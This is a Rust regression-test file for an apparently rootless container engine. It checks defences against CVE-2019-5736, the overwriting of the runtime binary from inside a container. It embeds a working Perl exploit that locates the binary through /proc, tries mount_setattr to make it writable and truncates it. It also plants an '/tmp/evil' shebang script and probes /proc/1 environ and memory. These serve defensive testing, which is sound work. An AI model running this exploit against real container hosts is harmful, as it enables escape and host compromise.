//! Overwriting our executable (CVE-2019-5736). Without root this is worse than with: the binary belongs to the very user
//! who is root inside.
//!
//! The victim is our binary, executed in the container as `/proc/self/exe`, where it waits at a FIFO. The attacker takes
//! hold of it through `/proc/PID/exe` without opening it, tries to make its mount writable, lets it end, and writes.
//! As long as any process executes the file the kernel answers ETXTBSY, which passes; where the mount is read-only it says
//! EROFS before it looks at that.

use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use serde_json::json;

use crate::attack::{Container, has_perl};
use crate::bundle::Bundle;
use crate::support::{Done, Home, LIMIT, busybox, copy_program, end, finish, read_until, start};

/// Arguments: the inode of the victim, and the FIFO at which it waits, or nothing.
const ATTACKER: &str = r#"
    use POSIX ();
    $| = 1;
    my ($inode, $fifo) = @ARGV;
    my ($path, $mount_setattr, $empty_path, $exe) = (010000000, 442, 0x1000, undef);
    my ($dot, $empty, $set_ro, $clear_ro) = (".", "", pack("Q4", 1, 0, 0, 0), pack("Q4", 0, 1, 0, 0));
    sub writable { syscall($mount_setattr, $_[0], $empty, $empty_path, $clear_ro, 32) == 0 }

    # Whether it has the right to change a detached mount that it has a descriptor of.
    my $tree = syscall(428, -100, $dot, 1);
    syscall($mount_setattr, $tree, $empty, $empty_path, $set_ro, 32);
    print writable($tree) ? "able\n" : "unable\n";

    POSIX::mkfifo($fifo, 0666) if $fifo;
    print "ready\n";
    my $limit = time + 30;
    SEARCH: while (1) {
        if (time > $limit) { print "not seen\n"; exit 1 }
        opendir(my $proc, "/proc");
        for my $pid (grep /^\d+$/, readdir $proc) {
            sysopen(my $file, "/proc/$pid/exe", $path) or next;
            next unless (stat $file)[1] == $inode;
            $exe = $file;
            last SEARCH;
        }
    }
    print "caught\n";
    print "made writable\n" if writable(fileno $exe);
    # Told before the victim is let go: where that is the init, this process ends with it.
    my $go;
    for (0..200) {
        if (sysopen(my $file, "/proc/self/fd/" . fileno $exe, POSIX::O_RDWR | POSIX::O_TRUNC)) {
            syswrite($file, "overwritten");
            print "overwritten\n";
            last;
        }
        if ($! != POSIX::ETXTBSY || $_ == 200) {
            print "refused: ", $! + 0, "\n";
            last;
        }
        release();
        select(undef, undef, undef, 0.05);
    }
    release();
    sub release {
        return if $go || !$fifo;
        sysopen($go, $fifo, POSIX::O_WRONLY) or die "$fifo: $!";
        close $go;
    }
"#;

/// What the attacker says in the end when the mount is read-only.
const REFUSED: &str = "caught\nrefused: 30\n";
/// Rights that let it make mounts.
const MIGHTY: [&str; 4] = ["--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined"];

/// The attack on whatever `victim` executes, in a running container; what the attacker has said.
#[track_caller]
fn attack(container: &Container<'_>, binary: &Path, fifo: &str, victim: &mut dyn FnMut() -> Done) -> String {
    let inode = fs::metadata(binary).unwrap().ino().to_string();
    let mut attacker = start(&mut container.exec(&[], &["perl", "-e", ATTACKER, &inode, fifo]));
    let stdout = attacker.stdout.as_mut().unwrap();
    let mut said = read_until(stdout, "ready\n");
    let mut victims = String::new();
    // A victim that does not wait may be gone before it was seen.
    while victims.len() < 10_000 && attacker.try_wait().unwrap().is_none() {
        writeln!(victims, "{:?}", victim()).unwrap();
        if !fifo.is_empty() {
            break;
        }
    }
    let done = end(attacker, Duration::from_secs(40));
    said += &done.stdout;
    assert!(said.contains("caught"), "{said}{}\nvictims: {victims}", done.stderr);
    said
}

/// The command line of our binary that waits at a FIFO.
fn waiting(program: &str) -> Vec<&str> {
    vec![program, "exec", "--env-file", "/tmp/fifo", "nothing", "true"]
}

/// The attacks that an exec makes possible; the binary stays as it was.
#[track_caller]
fn cannot_be_overwritten(container: &Container<'_>) {
    let binary = container.home().bin();
    let before = fs::read(binary).unwrap();
    let said = attack(container, binary, "/tmp/fifo", &mut || container.run(&[], &waiting("/proc/self/exe")));
    assert!(said.ends_with(REFUSED), "{said}");
    let script = "printf '#!/proc/self/exe\\n' >/tmp/evil && chmod 755 /tmp/evil";
    assert_eq!(container.run(&[], &["sh", "-c", script]).code, 0);
    let said = attack(container, binary, "", &mut || container.run(&[], &["/tmp/evil"]));
    assert!(said.ends_with(REFUSED), "{said}");
    assert!(fs::read(binary).unwrap() == before, "the binary has changed");
}

#[test]
fn the_engines_exec_does_not_give_the_binary_away() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    if !has_perl() {
        return;
    }
    home.own_binary();
    cannot_be_overwritten(&Container::engine(&home, &[], &["sleep", "600"]));
}

#[test]
fn not_even_with_the_right_to_change_mounts() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    if !has_perl() {
        return;
    }
    home.own_binary();
    let container = Container::engine(&home, &MIGHTY, &["sleep", "600"]);
    let said = attack(&container, home.bin(), "/tmp/fifo", &mut || container.run(&[], &waiting("/proc/self/exe")));
    assert_eq!(said, format!("able\nready\n{REFUSED}"));
}

/// Then the fs role has a clone of another binary to offer.
#[test]
fn a_file_server_that_another_binary_has_started_changes_nothing() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    if !has_perl() {
        return;
    }
    home.sh(&[], "true");
    home.own_binary();
    cannot_be_overwritten(&Container::engine(&home, &["--init"], &["sleep", "600"]));
}

#[test]
fn the_engines_run_does_not_give_the_binary_away() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    if !has_perl() {
        return;
    }
    home.own_binary();
    let before = fs::read(home.bin()).unwrap();
    let mut options = vec!["-v", "pipes:/tmp"];
    options.extend(["--entrypoint", "/proc/self/exe"]);
    let image = busybox();
    home.ok(&["run", "--rm", "-v", "pipes:/tmp", &image, "mkfifo", "/tmp/fifo"]);
    let container = Container::engine(&home, &options, &waiting("")[1..]);
    let said = attack(&container, home.bin(), "/tmp/fifo", &mut || container.run(&[], &["true"]));
    assert!(said.ends_with(REFUSED), "{said}");
    assert!(fs::read(home.bin()).unwrap() == before, "the binary has changed");
}

#[test]
fn the_oci_runtime_does_not_give_the_binary_away() {
    let Some(mut bundle) = Bundle::new() else { return };
    if !has_perl() {
        return;
    }
    bundle.home.own_binary();
    bundle.push("/process/capabilities/bounding", json!("CAP_SYS_ADMIN"));
    bundle.push("/process/capabilities/permitted", json!("CAP_SYS_ADMIN"));
    bundle.push("/process/capabilities/effective", json!("CAP_SYS_ADMIN"));
    cannot_be_overwritten(&Container::runtime(&mut bundle, &["sleep", "600"]));
}

/// The same attack on the same binary where a volume shows it writable.
#[test]
fn a_binary_that_can_be_written_is_overwritten() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    if !has_perl() {
        return;
    }
    home.own_binary();
    // A copy that nobody executes otherwise.
    let victim = home.path("victim/sublet");
    fs::create_dir(home.path("victim")).unwrap();
    copy_program(home.bin(), &victim);
    let volume = format!("{}:/victim", home.path("victim").display());
    let container = Container::engine(&home, &["-v", &volume], &["sleep", "600"]);
    let said = attack(&container, &victim, "/tmp/fifo", &mut || container.run(&[], &waiting("/victim/sublet")));
    assert!(said.ends_with("caught\noverwritten\n"), "{said}");
    assert_eq!(fs::read(&victim).unwrap(), b"overwritten");
}

/// The same attack on the runtime itself, without the clone that it executes itself from.
#[test]
fn without_the_clone_the_runtime_is_overwritten() {
    let Some(mut bundle) = Bundle::new() else { return };
    if !has_perl() {
        return;
    }
    let container = Container::runtime(&mut bundle, &["sleep", "600"]);
    // A copy that nobody executes otherwise, as the runtime that relays the attacker's streams does its own.
    let copy = container.home().path("copy");
    copy_program(container.home().bin(), &copy);
    let said = attack(&container, &copy, "/tmp/fifo", &mut || {
        let mut victim = Command::new(&copy);
        victim.args(container.exec(&[], &waiting("/proc/self/exe")).get_args());
        container.home().surround(&mut victim);
        finish(victim.env("SUBLET_WITHOUT", "own-binary"), b"", LIMIT)
    });
    assert!(said.ends_with("caught\noverwritten\n"), "{said}");
    assert_eq!(fs::read(&copy).unwrap(), b"overwritten");
}

/// Process 1 of `--init` stays our own program for as long as the container lives.
#[test]
fn the_reaper_cannot_be_looked_into() {
    let Some(mut home) = Home::with_busybox(&[]) else { return };
    home.own_binary();
    let script = "for file in exe cwd root fd/0 ns/user; do readlink /proc/1/$file; done; cat /proc/1/environ; \
                  head -c 1 /proc/1/mem; echo \"$(readlink /proc/self/exe)\"";
    let done = home.run(&["run", "--rm", "--init", "--cap-add", "SYS_PTRACE", &busybox(), "sh", "-c", script]);
    assert_eq!(done.stdout, "/bin/busybox\n", "only the last, of the probe itself, can be seen: {done:#?}");
    // Init could be looked into by the hooks of a device.
    let specs = home.path("cdi");
    fs::create_dir(&specs).unwrap();
    let hooks = r#"[{"hookName":"createRuntime","path":"/bin/true"}]"#;
    let devices = format!(r#"[{{"name":"one","containerEdits":{{"hooks":{hooks}}}}}]"#);
    let spec = format!(r#"{{"cdiVersion":"0.6.0","kind":"vendor.com/device","devices":{devices}}}"#);
    fs::write(specs.join("vendor.json"), spec).unwrap();
    let options =
        ["--cdi-spec-dir", specs.to_str().unwrap(), "run", "--rm", "--init", "--device", "vendor.com/device=one"];
    let done = home.run(&[&options[..], &["--cap-add", "SYS_PTRACE", &busybox(), "sh", "-c", script]].concat());
    assert_eq!(done.stdout, "/bin/busybox\n", "the same with hooks: {done:#?}");
}
